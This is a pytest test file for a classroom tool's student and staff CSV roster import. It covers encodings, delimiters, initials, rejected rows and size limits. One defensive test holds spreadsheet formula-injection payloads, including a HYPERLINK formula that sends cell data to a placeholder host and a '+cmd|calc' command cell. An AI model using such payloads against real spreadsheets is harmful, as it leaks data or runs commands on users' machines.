"""Roster import: a school's students and staff CSV files as they come (encodings, delimiters, quoting,
header names, bad rows, formulas, limits), read from real files."""

from __future__ import annotations

import os
import threading
from pathlib import Path

import pytest

from paratui.model.roster import (
    BYTE_LIMIT,
    STAFF_LIMIT,
    STUDENT_LIMIT,
    RosterError,
    RosterStaff,
    RosterStudent,
    parse_students,
    tell_apart,
    with_teacher,
)
from paratui.store.roster import load_staff, load_students, read_head

STAFF_CSV = "Name,Short name,Role,Login\nMaria Rivera,Ms. R,Teacher,mrivera\nDana Patel,Ms. P,1:1 para,dpatel\n" \
            "Jordan Thomas,Mr. T,Paraprofessional,jthomas\nSara Kowalski,Ms. K,SLP,skowalski\nSam Sub,,Substitute,\n"


def write(tmp_path: Path, name: str, data: bytes | str, encoding: str = "utf-8") -> Path:
    path = tmp_path / name
    path.write_bytes(data if isinstance(data, bytes) else data.encode(encoding))
    return path


def staff(tmp_path: Path) -> tuple[RosterStaff, ...]:
    return load_staff(write(tmp_path, "staff.csv", STAFF_CSV)).staff


def initials(roster) -> list[str]:
    return [s.initials for s in roster.students]


# -- encodings and dialects -------------------------------------------------------------------------
def test_utf8_comma_first_last_in_any_order(tmp_path):
    r = load_students(write(tmp_path, "s.csv", "Grade,Last Name,First Name\n3,Moonbeam,Evander\n4,Saltmarsh,Lark\n"))
    assert (r.encoding, r.delimiter) == ("UTF-8", ",")
    assert [(s.id, s.initials, s.name, s.grade) for s in r.students] == [
        ("S01", "E.M.", "Evander Moonbeam", "3"), ("S02", "L.S.", "Lark Saltmarsh", "4")]
    assert r.refused == () and r.flags == ()


def test_utf8_with_bom_and_semicolons_and_crlf(tmp_path):
    data = "\ufeffSurname;Given;Student ID\r\nMüller;Jörg;S07\r\nÑúñez;Ana;S08\r\n".encode("utf-8")
    r = load_students(write(tmp_path, "s.csv", data))
    assert (r.encoding, r.delimiter) == ("UTF-8 with BOM", ";")
    assert [(s.id, s.initials, s.name) for s in r.students] == [("S07", "J.M.", "Jörg Müller"),
                                                               ("S08", "A.Ñ.", "Ana Ñúñez")]


def test_windows_1252_export(tmp_path):
    # Excel's "CSV" on Windows: é is one byte (0xE9), a curly apostrophe 0x92
    data = "First;Last\nRené;O’Brien\nZoë;Çelik\n".encode("cp1252")
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")
    r = load_students(write(tmp_path, "s.csv", data))
    assert r.encoding == "Windows-1252"
    assert [s.name for s in r.students] == ["René O’Brien", "Zoë Çelik"]
    assert initials(r) == ["R.O.", "Z.Ç."]


def test_utf16_tab_separated_unicode_text(tmp_path):
    r = load_students(write(tmp_path, "s.txt", "Name\tGrade\nLark Saltmarsh\t2\n", encoding="utf-16"))
    assert (r.encoding, r.delimiter) == ("UTF-16", "\t") and initials(r) == ["L.S."]


def test_excel_sep_line(tmp_path):
    r = load_students(write(tmp_path, "s.csv", "sep=;\nName;Grade\nLark Saltmarsh;2\n;\nKai Bloom;3\n"))
    assert r.delimiter == ";" and initials(r) == ["L.S.", "K.B."]
    assert [s.line for s in r.students] == [3, 5]  # the sep line and the blank row still count as lines


def test_quoted_fields_commas_quotes_and_line_breaks_keep_line_numbers(tmp_path):
    text = ('Name,Notes,Grade\n"Saltmarsh, Lark","likes ""quiet"" spaces",2\n'
            '"Kai Bloom","two\nlines",3\n,,\nOdette Wren,,4\n')
    r = load_students(write(tmp_path, "s.csv", text))
    assert [(s.name, s.line) for s in r.students] == [("Lark Saltmarsh", 2), ("Kai Bloom", 3), ("Odette Wren", 6)]
    assert r.notes == ("column not used: Notes",)


def test_the_delimiter_is_sniffed_outside_quotes(tmp_path):
    r = load_students(write(tmp_path, "s.csv", '"Last, name";"First, name"\nWren;Odette\n'))
    assert r.delimiter == ";" and [s.name for s in r.students] == ["Odette Wren"]


@pytest.mark.parametrize("header", ["first,last", "First Name,Last Name", "FIRSTNAME;SURNAME", "given,family",
                                    "Forename,Family name"])
def test_common_header_names(tmp_path, header):
    sep = ";" if ";" in header else ","
    r = load_students(write(tmp_path, "s.csv", f"{header}\nEvander{sep}Moonbeam\n"))
    assert initials(r) == ["E.M."] and r.students[0].name == "Evander Moonbeam"


def test_one_name_column_either_way_round(tmp_path):
    r = load_students(write(tmp_path, "s.csv", "Student\n\"Moonbeam, Evander\"\nMary Jo Saltmarsh\nCher\n"))
    assert initials(r) == ["E.M.", "M.S.", "C."]


def test_ids_kept_when_codes_and_school_numbers_never_written(tmp_path):
    r = load_students(write(tmp_path, "s.csv", "id,name\nKB,Kai Bloom\n204518,Lark Saltmarsh\n,Odette Wren\n"))
    assert [s.id for s in r.students] == ["KB", "S01", "S02"]
    assert any("ID numbers never go into the data folder" in n for n in r.notes)
    assert "204518" not in repr(r.students)


def test_an_initials_column_wins(tmp_path):
    r = load_students(write(tmp_path, "s.csv", "initials,name\nEvM,Evander Moonbeam\n,Lark Saltmarsh\n"))
    assert initials(r) == ["EvM", "L.S."]


# -- initials told apart ------------------------------------------------------------------------------
def test_same_initials_are_told_apart(tmp_path):
    r = load_students(write(tmp_path, "s.csv", "first,last\nEvander,Moonbeam\nEmma,Morales\nEli,Moore\n"
                                                 "Emma,Morales\n"))
    assert initials(r) == ["E.M.", "E.Mo.", "E.Moo.", "E.Mor."]
    assert len({i.replace(".", "").casefold() for i in initials(r)}) == 4


def test_twins_of_one_name_get_a_number():
    twins = [RosterStudent("S01", "A.B.", first="Al", last="Bo"), RosterStudent("S02", "A.B.", first="Al", last="Bo")]
    assert [s.initials for s in tell_apart(twins)] == ["A.B.", "A.Bo."]
    three = [*twins, RosterStudent("S03", "A.B.", first="Al", last="Bo")]
    assert [s.initials for s in tell_apart(three)] == ["A.B.", "A.Bo.", "Al.Bo."]
    four = [*three, RosterStudent("S04", "A.B.", first="Al", last="Bo")]
    assert [s.initials for s in tell_apart(four)][-1] == "A.B.2"


def test_told_apart_as_the_room_compares_initials():
    # "E.M.O." and "E.Mo." are the same initials to the room (case, dots and spaces do not count)
    pupils = [RosterStudent("S01", "E.M.O.", first="E", last="Mo"),
              RosterStudent("S02", "E.M.", first="Evan", last="Moss"), RosterStudent("S03", "E.M.", first="Eli",
                                                                                   last="Moss")]
    out = [s.initials for s in tell_apart(pupils)]
    assert len({i.replace(".", "").casefold() for i in out}) == 3


# -- hostile and odd text --------------------------------------------------------------------------------
def test_formula_cells_are_kept_as_text_and_flagged(tmp_path):
    text = 'first,last,grade\n=HYPERLINK("http://x.example/?"&A1;"click"),Moonbeam,3\nLark,+cmd|calc,@SUM(1)\nKai,Bloom,-2\n'
    r = load_students(write(tmp_path, "s.csv", text))
    assert len(r.students) == 3 and r.refused == ()
    assert r.students[0].name.startswith("=HYPERLINK(") and r.students[1].grade == "@SUM(1)"
    lines = {(f.line, f.column) for f in r.flags}
    assert lines == {(2, "column 1 (first)"), (3, "column 2 (last)"), (3, "column 3 (grade)"), (4, "column 3 (grade)")}
    for message in r.messages():
        assert "HYPERLINK" not in message and "calc" not in message and "never evaluated" in message


def test_emoji_and_rtl_names_are_data_and_bidi_controls_are_cleaned(tmp_path):
    text = "first,last\nZoë 🌟,Star\n\u202eLeila,\u200fحداد\nMina\x1b[31m,Red\n"
    r = load_students(write(tmp_path, "s.csv", text))
    names = [s.name for s in r.students]
    assert names[0] == "Zoë 🌟 Star"
    assert names[1] == "Leila حداد" and "\u202e" not in names[1] and "\u200f" not in names[1]
    assert "\x1b" not in names[2] and "␛" in names[2]
    assert initials(r) == ["Z.S.", "L.ح.", "M.R."]


def test_a_name_with_no_letter_needs_initials(tmp_path):
    r = load_students(write(tmp_path, "s.csv", "first,last\n🌟,🌈\nKai,Bloom\n"))
    assert initials(r) == ["K.B."]
    assert [f.text(r.label) for f in r.refused] == [
        "s.csv:2: column 1 (first): no letter to make initials from: add an Initials column"]


# -- bad rows: refused with line and column, the rest kept ----------------------------------------------
def test_bad_rows_are_refused_with_line_and_column_and_the_rest_kept(tmp_path):
    text = ("Student ID;First;Last;1:1\n"
            "S01;Evander;Moonbeam;\n"
            "S02;;;\n"                       # no name
            "S01;Lark;Saltmarsh;\n"          # id taken
            "S04;Kai;Bloom;Nobody Here\n"    # para unknown
            "S05;Odette;Wren;yes\n"          # para "yes" but who?
            "S06;Tam;Hale;Ms. P\n"           # fine: by short name
            "S07;Rowan;Nettle;Dana\n"        # fine: by first name
            "S08;Ivy;Fern;;extra\n")         # a shifted row
    r = load_students(write(tmp_path, "s.csv", text), staff(tmp_path))
    assert [(s.id, s.one_to_one) for s in r.students] == [("S01", None), ("S06", "DP"), ("S07", "DP")]
    assert [f.text(r.label) for f in r.refused] == [
        "s.csv:3: column 2 (First): no name",
        "s.csv:4: column 1 (Student ID): also the id on line 2",
        "s.csv:5: column 4 (1:1): not someone on the staff list",
        "s.csv:6: column 4 (1:1): says yes but names no one: write the para's name, short name or id",
        "s.csv:9: 5 cells where the header has 4: a separator inside a name needs the cell in quotes",
    ]
    for message in r.messages():
        assert "Lark" not in message and "Nobody" not in message and "Ivy" not in message


def test_an_unquoted_comma_in_a_name_is_refused(tmp_path):
    r = load_students(write(tmp_path, "s.csv", "name,grade\nMoonbeam, Evander,3\nKai Bloom,2\n"))
    assert initials(r) == ["K.B."]
    assert [f.text(r.label) for f in r.refused] == [
        "s.csv:2: 3 cells where the header has 2: a comma inside a name needs the cell in quotes"]


def test_a_para_without_a_staff_list(tmp_path):
    r = load_students(write(tmp_path, "s.csv", "name,para\nKai Bloom,Dana\nLark Saltmarsh,\n"))
    assert initials(r) == ["L.S."]
    assert "(--staff staff.csv)" in r.refused[0].message


def test_a_broken_quote_is_refused_at_its_line(tmp_path):
    r = load_students(write(tmp_path, "s.csv", 'name,grade\nKai Bloom,2\n"Lark" Saltmarsh,3\nOdette Wren,4\n'))
    assert initials(r) == ["K.B.", "O.W."]
    assert len(r.refused) == 1 and r.refused[0].text("s.csv").startswith("s.csv:3: cannot be read as CSV")


def test_a_long_name_is_refused(tmp_path):
    r = load_students(write(tmp_path, "s.csv", f"name\n{'A' * 50} {'B' * 40}\nKai Bloom\n"))
    assert initials(r) == ["K.B."] and "longer than 80" in r.refused[0].message


# -- the file as a whole ----------------------------------------------------------------------------------
@pytest.mark.parametrize("data,message", [
    (b"", "empty"), (b"\xef\xbb\xbf\r\n \n", "empty"), (b"First,Last\n", "no students in it, only the header row"),
    (b"First,Last\n,\n\n", "no students in it"), (b"Colour,Size\nred,3\n", "no column of names"),
    (b"PK\x03\x04\x14\x00\x06\x00", "not a text file (a spreadsheet file, .xlsx or .ods?)"),
    (b"name\n\x81\x8d\x8f\x90\x9d\n", "neither UTF-8 nor Windows-1252"),
    (b"\xef\xbb\xbfname\n\xe9\n", "not UTF-8 although it starts with a UTF-8 mark"),
])
def test_files_that_are_no_roster(tmp_path, data, message):
    with pytest.raises(RosterError, match="^s.csv") as e:
        load_students(write(tmp_path, "s.csv", data))
    assert message in str(e.value)


def test_forty_students_fit_and_forty_one_do_not(tmp_path):
    rows = "".join(f"Kid{n},Family{n}\n" for n in range(STUDENT_LIMIT))
    assert len(load_students(write(tmp_path, "s.csv", "first,last\n" + rows)).students) == STUDENT_LIMIT
    with pytest.raises(RosterError) as e:
        load_students(write(tmp_path, "s.csv", "first,last\n" + rows + "One,More\n"))
    assert str(e.value).startswith(f"s.csv:{STUDENT_LIMIT + 2}: more than {STUDENT_LIMIT} students")
    assert "up to 40 students" in str(e.value)


def test_a_whole_school_export_is_refused_from_its_head(tmp_path):
    big = write(tmp_path, "school.csv", "id,first,last,grade,address\n" + "".join(
        f"{100000 + n},Firstname{n},Lastname{n},{n % 6},{n} Long Street Name Avenue\n" for n in range(10_000)))
    assert big.stat().st_size > BYTE_LIMIT
    raw, complete = read_head(big)
    assert len(raw) == BYTE_LIMIT and not complete  # never more than this is read
    with pytest.raises(RosterError, match=r"^school.csv:42: more than 40 students"):
        load_students(big)
    small = write(tmp_path, "small.csv", "name\n" + "".join(f"K{n}\n" for n in range(10_000)))
    assert small.stat().st_size < BYTE_LIMIT
    with pytest.raises(RosterError, match=r"^small.csv:42: more than 40 students"):
        load_students(small)


def test_one_huge_line_is_refused(tmp_path):
    with pytest.raises(RosterError, match="larger than 512 KiB in one line"):
        load_students(write(tmp_path, "s.csv", "name," + "x" * (BYTE_LIMIT + 10)))
    with pytest.raises(RosterError, match="larger than 512 KiB: not a roster of 40 students"):
        load_students(write(tmp_path, "s.csv", "name,notes\n" + f"Kai Bloom,{'x' * BYTE_LIMIT}\n"))


def test_not_a_file(tmp_path):
    with pytest.raises(RosterError, match="no such file"):
        load_students(tmp_path / "missing.csv")
    with pytest.raises(RosterError, match="not a file"):
        load_students(tmp_path)
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    done: list[str] = []
    t = threading.Thread(target=lambda: done.append(pytest.raises(RosterError, load_students, fifo).exconly()))
    t.start()
    t.join(30)
    assert done and "not a file" in done[0]  # refused, never blocked waiting for a writer


def test_the_model_never_reads_past_the_limit_row():
    rows = ("first,last\n" + "A,B\n" * 100_000).encode()
    with pytest.raises(RosterError, match=r":42: more than 40"):
        parse_students(rows, "s.csv")


# -- staff --------------------------------------------------------------------------------------------
def test_staff_roles_ids_and_logins(tmp_path):
    r = load_staff(write(tmp_path, "staff.csv", STAFF_CSV))
    assert [(s.id, s.short, s.role, s.logins) for s in r.staff] == [
        ("MR", "Ms. R", "teacher", ("mrivera",)), ("DP", "Ms. P", "one-to-one", ("dpatel",)),
        ("JT", "Mr. T", "para", ("jthomas",)), ("SK", "Ms. K", "related-service", ("skowalski",)),
        ("SUB", "Sam S.", "sub", ())]


def test_staff_ids_are_told_apart_and_ascii(tmp_path):
    text = "first;last;role\nMaria;Rivera;teacher\nMarco;Rivas;aide\nÉlodie;Ñúñez;para\nMaria;Rivera;TA\n"
    r = load_staff(write(tmp_path, "staff.csv", text))
    assert [s.id for s in r.staff] == ["MR", "MRI", "EN", "MRIV"]
    assert [s.role for s in r.staff] == ["teacher", "para", "para", "para"]


def test_bad_staff_rows(tmp_path):
    text = ("name,role,login\nMaria Rivera,teacher,mrivera\nJo Doe,janitor,jdoe\nAl Lee,para,MRivera\n"
            "Bo Sun,para,bo sun2\nCy Day,para,not/ok\n,para,x\nEd Fay,,efay\n")
    r = load_staff(write(tmp_path, "staff.csv", text))
    assert [(s.id, s.role, s.logins) for s in r.staff] == [("MR", "teacher", ("mrivera",)),
                                                            ("BS", "para", ("bo", "sun2")), ("EF", "para", ("efay",))]
    assert [f.text(r.label) for f in r.refused] == [
        "staff.csv:3: column 2 (role): not a role paratui knows: teacher, para, one-to-one, related-service "
        "(speech, OT…) or sub",
        "staff.csv:4: column 3 (login): already the login of line 2",
        "staff.csv:6: column 3 (login): not a computer user name (letters, digits, . _ -)",
        "staff.csv:7: column 1 (name): no name"]
    assert [f.text(r.label) for f in r.flags] == ["staff.csv:8: column 2 (role): empty: taken as para"]


def test_twenty_six_staff_are_refused(tmp_path):
    rows = "".join(f"Adult{n} Person{n},para\n" for n in range(STAFF_LIMIT))
    assert len(load_staff(write(tmp_path, "staff.csv", "name,role\n" + rows)).staff) == STAFF_LIMIT
    with pytest.raises(RosterError, match=r"^staff.csv:27: more than 25 staff"):
        load_staff(write(tmp_path, "staff.csv", "name,role\n" + rows + "One More,para\n"))


def test_the_running_account_becomes_the_teacher(tmp_path):
    people = staff(tmp_path)
    out, said = with_teacher(people, "jthomas")  # a para's login: they set the room up, they are its teacher
    assert [s.role for s in out if s.id == "JT"] == ["teacher"] and "JT" in said
    out, said = with_teacher(people, "mrivera")
    assert out == list(people) and "MR (login mrivera) is the teacher" == said
    out, said = with_teacher(people, "newteach")  # the one teacher listed gets the login
    assert out[0].logins == ("mrivera", "newteach") and "MR is the teacher" in said
    paras = [s for s in people if s.role != "teacher"]
    out, said = with_teacher(paras, "mrivera", "Maria Rivera")  # no teacher: one is added
    assert (out[0].id, out[0].role, out[0].logins, out[0].name) == ("MR", "teacher", ("mrivera",), "Maria Rivera")
    assert len(out) == len(paras) + 1 and "added as the teacher" in said


def test_blank_lines_before_the_header(tmp_path):
    r = load_students(write(tmp_path, "s.csv", "\r\n\r\nName;Grade\r\nKai Bloom;2\r\n"))
    assert r.delimiter == ";" and [(s.initials, s.grade, s.line) for s in r.students] == [("K.B.", "2", 4)]


def test_a_para_named_by_title_and_surname(tmp_path):
    """A school's list names the para as the children call them ("Ms. Patel", "Mr Thomas") or by
    surname alone; a surname two adults share is refused as ambiguous."""
    text = "name,para\nKai Bloom,Ms. Patel\nLark Saltmarsh,Mr Thomas\nOdette Wren,kowalski\nIvy Moss,Ms. Smith\n"
    r = load_students(write(tmp_path, "s.csv", text), staff(tmp_path))
    assert [(s.initials, s.one_to_one) for s in r.students] == [("K.B.", "DP"), ("L.S.", "JT"), ("O.W.", "SK")]
    assert [f.text("s.csv") for f in r.refused] == ["s.csv:5: column 2 (para): not someone on the staff list"]
